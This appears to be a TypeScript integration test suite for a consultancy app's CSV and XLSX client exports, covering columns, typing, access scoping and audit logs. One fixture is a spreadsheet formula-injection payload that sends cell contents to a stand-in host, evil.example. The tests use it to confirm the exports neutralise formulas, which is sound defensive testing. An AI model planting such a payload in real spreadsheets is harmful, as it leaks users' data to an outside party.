import { readFile } from "node:fs/promises";
import path from "node:path";
import { PassThrough } from "node:stream";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { parseRosterQuery } from "@/lib/clients/roster-query";
import type { ClientInputDraft } from "@/lib/clients/schema";
import { parseRounds } from "@/lib/draws/parse-rounds";
import { ForbiddenError, InvalidInputError, NotFoundError } from "@/lib/errors";
import { streamRosterCsv, streamRosterXlsx } from "@/lib/server/exports/roster";
import { writeImpactCsv, writeImpactXlsx } from "@/lib/server/exports/draw-impact";
import { ExportAbortedError } from "@/lib/server/exports/stream";
import { archiveClient, createClient, listClients, type RosterPage } from "../clients";
import { importRounds } from "../draws/import";
import { rosterExportStatements } from "./roster-statements";
import { drawImpactExport, MAX_REPORT_BATCH, openReportBatch, openRosterExport } from "./sources";
import { prisma } from "../prisma";
import { collect } from "../testing/collect";
import { createTestFirm, type TestFirm } from "../testing/fixtures";

/**
 * The exports against a real database: the files are parsed back (csv-parse, exceljs' reader) and
 * checked for rows, columns, types and scope; the export's rows equal the roster's pages laid end
 * to end for every filter and sort; every export is in the audit log with its row count.
 */

const NOW = new Date("2026-06-15T16:00:00Z");
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
let firm: TestFirm;
let other: TestFirm;
let cec: { number: string; cutoff: number };
const ids = new Map<string, string>();

const owner = () => firm.user("owner").scope;
const consultant = () => firm.user("consultant").scope;
const manual = (crs: number) => ({ manualCrs: crs, manualCrsReason: "From the IRCC account" });

function parseCsv(buffer: Buffer): Record<string, string>[] {
  const text = buffer.toString("utf8");
  expect(text.startsWith("\uFEFF")).toBe(true);
  return parse(text, { bom: true, columns: true, skip_empty_lines: true });
}

async function readXlsx(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  return workbook;
}

function sheetRecords(sheet: ExcelJS.Worksheet): { headers: string[]; rows: ExcelJS.Row[] } {
  const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
  const rows: ExcelJS.Row[] = [];
  sheet.eachRow((row, n) => {
    if (n > 1) rows.push(row);
  });
  return { headers, rows };
}

async function auditOf(action: string) {
  return prisma().auditLog.findMany({ where: { firmId: firm.id, action }, orderBy: { id: "desc" } });
}

async function add(key: string, input: Partial<ClientInputDraft> & { teamId: string }, scope = owner()): Promise<string> {
  const [lastName, firstName] = key.split(" ");
  const { id } = await createClient(scope, {
    firstName,
    lastName,
    status: "profile_active",
    profileSubmittedAt: "2026-01-15T14:30:05Z",
    programs: ["CEC"],
    passportExpiresOn: "2031-01-01",
    ...input,
  } as ClientInputDraft);
  ids.set(key, id);
  return id;
}

beforeAll(async () => {
  const { rounds, warnings } = parseRounds(JSON.parse(await readFile(path.join(process.cwd(), "data", "ee_rounds_123_en.json"), "utf8")));
  await importRounds(rounds, { source: "exports test", importedBy: null, warnings });
  [cec] = await prisma().$queryRaw<{ number: string; cutoff: number }[]>`
    SELECT d."number", d."cutoff" FROM "Draw" d WHERE d."kind" = 'cec' ORDER BY d."date" DESC, d."drawnAt" DESC NULLS LAST, d."number" DESC LIMIT 1`;

  firm = await createTestFirm({ label: "exports" });
  other = await createTestFirm({ label: "exports-other" });
  const [t1, t2] = firm.teams.map((t) => t.id);
  const consultantId = firm.user("consultant").id;
  await prisma().user.update({ where: { firmId_id: { firmId: firm.id, id: consultantId } }, data: { licenceNumber: "R712345" } });

  await add("Okoye Amara", { teamId: t1, consultantId, ...manual(cec.cutoff + 12), languageTestDate: "2024-07-10", workPermitExpiresOn: "2026-06-01" });
  await add("Below Ben", { teamId: t1, consultantId, ...manual(cec.cutoff - 5), email: "ben@client.example" });
  await add(`${EVIL} Mallory`, { teamId: t1, ...manual(400), email: "-2+3@client.example" });
  await add("Hernández Tomás", { teamId: t2, programs: ["FSW"], nominationProvince: "ON", ...manual(1150) });
  await add("Prospect Pat", { teamId: t2, status: "prospect", profileSubmittedAt: null });
  await add("Archived Ann", { teamId: t1, ...manual(450) });
  await archiveClient(owner(), ids.get("Archived Ann")!);
  for (let i = 1; i <= 7; i++) await add(`Filler F${i}`, { teamId: i % 2 ? t1 : t2, programs: ["FSW"], ...manual(300 + i) });
  const { id } = await createClient(other.user("owner").scope, {
    firstName: "Other",
    lastName: "Firmclient",
    teamId: other.teams[0].id,
    status: "profile_active",
    profileSubmittedAt: "2026-01-15T14:30:05Z",
    programs: ["CEC"],
    ...manual(cec.cutoff + 50),
  } as ClientInputDraft);
  ids.set("Firmclient Other", id);
});

describe("roster CSV", () => {
  it("holds every row of the view (all pages), typed, with the roster's columns, and is audited", async () => {
    const query = parseRosterQuery({ pageSize: "25" });
    const buffer = await collect((sink) => streamRosterCsv(owner(), query, sink, { now: NOW, batchSize: 4, actor: { email: "owner@test" } }));
    const rows = parseCsv(buffer);
    expect(rows).toHaveLength(12);
    const headers = Object.keys(rows[0]);
    expect(headers.slice(0, 7)).toEqual(["Last name", "First name", "Profile number", "Team", "Consultant", "Status", "CRS"]);
    expect(headers).toContain(`Margin: CEC #${cec.number} (cut-off ${cec.cutoff})`);
    for (const h of ["Profile expires", "Language test expires", "ECA expires", "Work permit expires", "Passport expires", "Days to next deadline"]) expect(headers).toContain(h);

    const amara = rows.find((r) => r["Last name"] === "Okoye")!;
    expect(amara.CRS).toBe(String(cec.cutoff + 12));
    expect(amara[`Margin: CEC #${cec.number} (cut-off ${cec.cutoff})`]).toBe("12");
    const consultantUser = await prisma().user.findFirstOrThrow({ where: { firmId: firm.id, id: firm.user("consultant").id } });
    expect(amara.Consultant).toBe(consultantUser.name);
    expect(amara["Language test expires"]).toBe("2026-07-10");
    expect(amara["Work permit expires"]).toBe("2026-06-01");
    expect(amara["Days to next deadline"]).toBe("-14");
    expect(amara["Profile expires"]).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    // A real negative number is left as it is: only text cells are neutralised.
    expect(rows.find((r) => r["Last name"] === "Below")![`Margin: CEC #${cec.number} (cut-off ${cec.cutoff})`]).toBe("-5");
    expect(rows.map((r) => r["Last name"])).toEqual([...rows.map((r) => r["Last name"])].sort((a, b) => (a.replace(/^'/, "") < b.replace(/^'/, "") ? -1 : 1)));

    const [entry] = await auditOf("export.roster_csv");
    expect(entry.userId).toBe(firm.user("owner").id);
    expect(entry.userEmail).toBe("owner@test");
    expect(entry.entityType).toBe("client");
    expect(entry.metadata).toMatchObject({ format: "csv", rows: 12, filters: { archived: "exclude", sort: "name", dir: "asc" } });
  });

  it("neutralises a formula in a name and an email, and keeps accents", async () => {
    const query = parseRosterQuery({ cols: "name,email,crs" });
    const rows = parseCsv(await collect((sink) => streamRosterCsv(owner(), query, sink, { now: NOW })));
    const evil = rows.find((r) => r["First name"] === "Mallory")!;
    expect(evil["Last name"]).toBe(`'${EVIL}`);
    expect(evil.Email).toBe("'-2+3@client.example");
    expect(rows.find((r) => r["First name"] === "Tomás")!["Last name"]).toBe("Hernández");
    expect(rows.every((r) => !/^[=+\-@\t\r]/.test(r["Last name"]) && !/^[=+\-@\t\r]/.test(r.Email ?? ""))).toBe(true);
  });

  it("applies the view's filters, and a consultant gets only their teams' clients, never another firm's", async () => {
    const filtered = parseCsv(await collect((sink) => streamRosterCsv(owner(), parseRosterQuery({ program: "FSW", crsMin: "300" }), sink, { now: NOW })));
    expect(filtered.map((r) => r["Last name"]).sort()).toEqual(["Filler", "Filler", "Filler", "Filler", "Filler", "Filler", "Filler", "Hernández"]);

    const mine = parseCsv(await collect((sink) => streamRosterCsv(consultant(), parseRosterQuery({ archived: "include" }), sink, { now: NOW })));
    const t1 = firm.teams[0].name;
    expect(mine.length).toBe(8);
    expect(mine.every((r) => r.Team === t1)).toBe(true);
    expect(mine.some((r) => r["Last name"] === "Archived" && r.Archived === "Yes")).toBe(true);
    expect(mine.some((r) => r["Last name"] === "Hernández")).toBe(false);
    const everything = (await collect((sink) => streamRosterCsv(owner(), parseRosterQuery({ archived: "include" }), sink, { now: NOW }))).toString("utf8");
    expect(everything).not.toContain("Firmclient");
    const [entry] = await auditOf("export.roster_csv");
    expect(entry.metadata).toMatchObject({ rows: 13 });
  });

  it("refuses a role without the export permission", async () => {
    await expect(openRosterExport({ ...owner(), role: "nobody" as never }, parseRosterQuery({}), { format: "csv" })).rejects.toThrow(ForbiddenError);
  });
});

describe("roster XLSX", () => {
  it("is a real spreadsheet: typed cells, frozen header with filters, widths, inert formulas", async () => {
    const query = parseRosterQuery({ cols: "name,email,profileNumber,crs,margin,profileSubmittedAt,deadlines,updatedAt" });
    const buffer = await collect((sink) => streamRosterXlsx(owner(), query, sink, { now: NOW, batchSize: 5 }));
    const workbook = await readXlsx(buffer);
    const sheet = workbook.getWorksheet("Clients")!;
    const { headers, rows } = sheetRecords(sheet);
    expect(rows).toHaveLength(12);
    expect(headers.slice(0, 5)).toEqual(["Last name", "First name", "Email", "Profile number", "CRS"]);
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    expect(sheet.getRow(1).font?.bold).toBe(true);
    const col = (name: string) => headers.indexOf(name) + 1;
    expect(sheet.getColumn(col("Email")).width).toBeGreaterThanOrEqual(20);

    const amara = rows.find((r) => r.getCell(col("Last name")).value === "Okoye")!;
    expect(amara.getCell(col("CRS")).type).toBe(ExcelJS.ValueType.Number);
    expect(amara.getCell(col("CRS")).value).toBe(cec.cutoff + 12);
    const submitted = amara.getCell(col("Profile submitted (America/Toronto)"));
    expect(submitted.type).toBe(ExcelJS.ValueType.Date);
    // 14:30:05 UTC is 09:30:05 in Toronto in January: the cell shows firm time.
    expect((submitted.value as Date).toISOString()).toBe("2026-01-15T09:30:05.000Z");
    expect(submitted.numFmt).toBe("yyyy-mm-dd hh:mm:ss");
    const permit = amara.getCell(col("Work permit expires"));
    expect(permit.type).toBe(ExcelJS.ValueType.Date);
    expect((permit.value as Date).toISOString()).toBe("2026-06-01T00:00:00.000Z");
    expect(amara.getCell(col("Days to next deadline")).value).toBe(-14);

    const ben = rows.find((r) => r.getCell(col("Last name")).value === "Below")!;
    const benMargin = ben.getCell(col(`Margin: CEC #${cec.number} (cut-off ${cec.cutoff})`));
    expect(benMargin.type).toBe(ExcelJS.ValueType.Number);
    expect(benMargin.value).toBe(-5);

    const evil = rows.find((r) => r.getCell(col("First name")).value === "Mallory")!;
    const name = evil.getCell(col("Last name"));
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.value).toBe(EVIL);
    expect(name.formula).toBeUndefined();
    expect(name.numFmt).toBe("@");
    expect(evil.getCell(col("Email")).type).toBe(ExcelJS.ValueType.String);
    // And no formula anywhere in the sheet's XML.
    expect(buffer.includes(Buffer.from("<f>"))).toBe(false);

    const [entry] = await auditOf("export.roster_xlsx");
    expect(entry.metadata).toMatchObject({ format: "xlsx", rows: 12 });
  });

  it("is scoped like the CSV", async () => {
    const workbook = await readXlsx(await collect((sink) => streamRosterXlsx(consultant(), parseRosterQuery({}), sink, { now: NOW })));
    const { headers, rows } = sheetRecords(workbook.getWorksheet("Clients")!);
    const team = headers.indexOf("Team") + 1;
    expect(rows).toHaveLength(7);
    expect(rows.every((r) => r.getCell(team).value === firm.teams[0].name)).toBe(true);
  });
});

describe("the export equals the screen", () => {
  const queries: Record<string, string>[] = [
    {},
    { sort: "crs", dir: "desc" },
    { sort: "crs", dir: "asc" },
    { sort: "margin", dir: "desc" },
    { sort: "margin", dir: "asc" },
    { sort: "team" },
    { sort: "consultant", dir: "desc" },
    { sort: "status" },
    { sort: "email" },
    { sort: "profileNumber", dir: "desc" },
    { sort: "profileSubmittedAt" },
    { sort: "profileExpiresOn", dir: "desc" },
    { sort: "updatedAt" },
    { q: "fill" },
    { q: "ok" },
    { archived: "include" },
    { archived: "only" },
    { status: "prospect" },
    { program: "FSW" },
    { crsMin: "300", crsMax: "500" },
    { expiringWithin: "30" },
    { cutoff: "above:cec" },
    { cutoff: "below:cec" },
    { cutoff: "above:pnp" },
  ];

  it.each(queries)("%j", async (params) => {
    for (const scope of [owner(), consultant()]) {
      const screen: string[] = [];
      let cursor: string | null = null;
      let second: string | null = null;
      do {
        const result: RosterPage = await listClients(scope, parseRosterQuery({ ...params, pageSize: "25", ...(cursor ? { cursor } : {}) }), { now: NOW });
        screen.push(...result.rows.map((r) => r.id));
        cursor = result.nextCursor;
        second ??= cursor;
      } while (cursor);
      // The export ignores the page the view is on: every page, from the first.
      const source = await openRosterExport(scope, parseRosterQuery({ ...params, pageSize: "25", ...(second ? { cursor: second } : {}) }), { format: "csv", now: NOW, batchSize: 3 });
      const exported: string[] = [];
      for await (const batch of source.batches()) exported.push(...batch.map((r) => r.id));
      expect(source.total).toBe(screen.length);
      expect(exported).toEqual(screen);
    }
  });
});

describe("export rows", () => {
  it("are read from PostgreSQL's text exactly as the driver parses them: numbers, arrays, nulls, booleans", async () => {
    const scope = other.user("owner").scope;
    await add("Arrays Ada", { teamId: other.teams[0].id, programs: ["CEC", "FSW"], categories: ["french", "healthcare"], nominationProvince: "BC", email: "ada@client.example", ...manual(471) }, scope);
    await archiveClient(scope, await add("Plain Pete", { teamId: other.teams[0].id, status: "prospect", programs: [], profileSubmittedAt: null }, scope));
    const query = parseRosterQuery({ archived: "include", cols: "name,email,profileNumber,team,consultant,status,crs,margin,programs,categories,profileSubmittedAt,profileExpiresOn,deadlines,updatedAt" });
    const source = await openRosterExport(scope, query, { format: "csv", now: NOW, batchSize: 2 });
    const exported = [];
    for await (const batch of source.batches()) exported.push(...batch);
    const statements = rosterExportStatements(scope, query, NOW);
    const parsedByDriver = await prisma().$queryRawUnsafe<object[]>(statements.rows, ...statements.params);
    expect(exported.length).toBe(3);
    expect(exported).toEqual(parsedByDriver);
    expect(exported.find((r) => r.firstName === "Ada")).toMatchObject({ crs: 471, programs: ["CEC", "FSW"], categories: ["french", "healthcare"], archived: false });
    expect(exported.find((r) => r.firstName === "Pete")).toMatchObject({ programs: [], categories: [], profileSubmittedAt: null, crs: null, archived: true });
  });
});

describe("streaming", () => {
  it("stops reading and ends the snapshot when the reader goes away", async () => {
    const sink = new PassThrough({ highWaterMark: 16 });
    sink.resume();
    let batches = 0;
    const running = streamRosterCsv(owner(), parseRosterQuery({ archived: "include" }), sink, {
      now: NOW,
      batchSize: 2,
      onProgress: () => {
        if (++batches === 2) sink.destroy();
      },
    });
    await expect(running).rejects.toBeInstanceOf(ExportAbortedError);
    expect(batches).toBe(2);
    // The export's own connection is closed, not left idle in its transaction.
    const open = await prisma().$queryRaw<{ n: number }[]>`
      SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND application_name = 'drawdesk-export'`;
    expect(open[0].n).toBe(0);
  });
});

describe("client report batches", () => {
  it("are scoped and capped", async () => {
    const mine = [ids.get("Okoye Amara")!, ids.get("Below Ben")!];
    await expect(openReportBatch(consultant(), { ids: mine }, { layout: "zip" })).resolves.toMatchObject({ clients: [{ id: mine[0] }, { id: mine[1] }] });
    await expect(openReportBatch(consultant(), { ids: [...mine, ids.get("Hernández Tomás")!] }, { layout: "zip" })).rejects.toThrow(NotFoundError);
    await expect(openReportBatch(owner(), { ids: [ids.get("Firmclient Other")!] }, { layout: "zip" })).rejects.toThrow(NotFoundError);
    const tooMany = Array.from({ length: MAX_REPORT_BATCH + 1 }, (_, i) => `00000000-0000-4000-8000-${String(i).padStart(12, "0")}`);
    await expect(openReportBatch(owner(), { ids: tooMany }, { layout: "combined" })).rejects.toThrow(InvalidInputError);
    await expect(openReportBatch(owner(), { ids: tooMany }, { layout: "combined" })).rejects.toThrow(/at most 500 clients; this selection has 501/);
    const byView = await openReportBatch(consultant(), { query: parseRosterQuery({ program: "CEC" }) }, { layout: "combined" });
    // Name order as the roster sorts it (byte order: "=" before letters).
    expect(byView.clients.map((c) => c.lastName)).toEqual([EVIL, "Below", "Okoye"]);
    const [entry] = await auditOf("export.client_pdf_batch");
    expect(entry.metadata).toMatchObject({ layout: "combined", rows: 3, clientIds: byView.clients.map((c) => c.id) });
  });
});

describe("draw impact exports", () => {
  it("lists above / newly above / near miss in CSV and XLSX, scoped and audited", async () => {
    const impact = await drawImpactExport(owner(), cec.number, { format: "csv", margin: 10 });
    const rows = parseCsv(await collect((sink) => writeImpactCsv(impact, "America/Toronto", sink)));
    const count = impact.above.length + impact.newlyAbove.length + impact.nearMiss.length;
    expect(rows).toHaveLength(count);
    expect(Object.keys(rows[0])).toEqual(["List", "Last name", "First name", "Profile number", "Team", "Consultant", "CRS at the draw", "Margin", "Tie-break", "Profile submitted (America/Toronto)", "Client ID"]);
    expect(rows.find((r) => r["Last name"] === "Okoye")).toMatchObject({ List: "Above the cut-off", Margin: "12" });
    expect(rows.find((r) => r["Last name"] === "Below")).toMatchObject({ List: "Near miss", Margin: "-5", "Profile submitted (America/Toronto)": "2026-01-15 09:30:05" });
    expect(rows.some((r) => r["Last name"] === "Firmclient")).toBe(false);
    const [entry] = await auditOf("export.draw_impact_csv");
    expect(entry.entityId).toBe(cec.number);
    expect(entry.metadata).toMatchObject({ format: "csv", rows: count, filters: { margin: 10 } });

    const workbook = await readXlsx(await collect((sink) => writeImpactXlsx(impact, "America/Toronto", sink)));
    expect(workbook.worksheets.map((s) => s.name)).toEqual(["Summary", "Above", "Newly above", "Near misses"]);
    const near = sheetRecords(workbook.getWorksheet("Near misses")!);
    const margin = near.headers.indexOf("Margin") + 1;
    expect(near.rows.map((r) => r.getCell(margin).value)).toEqual(impact.nearMiss.map((r) => r.margin));
    expect(near.rows.every((r) => r.getCell(margin).type === ExcelJS.ValueType.Number)).toBe(true);
    const summary = sheetRecords(workbook.getWorksheet("Summary")!);
    expect(summary.rows[0].getCell(summary.headers.indexOf("Cut-off") + 1).value).toBe(cec.cutoff);

    const theirs = await drawImpactExport(consultant(), cec.number, { format: "xlsx" });
    expect([...theirs.above, ...theirs.nearMiss].every((r) => r.teamId === firm.teams[0].id)).toBe(true);
  });
});
